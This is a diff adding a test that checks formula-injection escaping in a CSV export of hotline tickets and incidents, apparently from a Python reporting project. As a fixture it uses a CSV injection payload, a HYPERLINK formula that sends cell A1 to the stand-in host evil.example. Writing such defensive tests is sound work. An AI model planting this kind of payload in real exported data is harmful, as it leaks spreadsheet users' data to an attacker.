@@ -251,3 +251,21 @@ def test_the_hotline_zone_must_be_a_whole_number_of_hours_from_utc() -> None:
         Settings(report_timezone="Asia/Kolkata")
     with pytest.raises(ValidationError, match="not an IANA time zone"):
         Settings(report_timezone="Mars/Olympus")
+
+
+def test_a_title_written_as_a_formula_stays_text_in_the_csv() -> None:
+    brief = _brief()
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
+    brief.urgent_tickets[0].title = hostile
+    brief.rising_incidents[0].title = "@SUM(A1:A9)"
+    brief.rising_incidents[0].sample_titles = ["+1", "-1 井盖"]
+    rows = list(csv.reader(io.StringIO(brief_csv(brief).lstrip("\ufeff"))))
+    urgent = next(r for r in rows if r[0] == "urgent")
+    incident = next(r for r in rows if r[0] == "incident")
+    assert urgent[2] == "'" + hostile
+    assert incident[2] == "'@SUM(A1:A9)"
+    # Within a joined cell a formula sign is harmless; only a cell's first character counts.
+    assert incident[6].endswith("+1 | -1 井盖")
+    # Numbers stay numbers, and ordinary text as written.
+    total = rows[1]
+    assert total[3:5] == ["1250", "1000"] and rows[-1][6] == ""
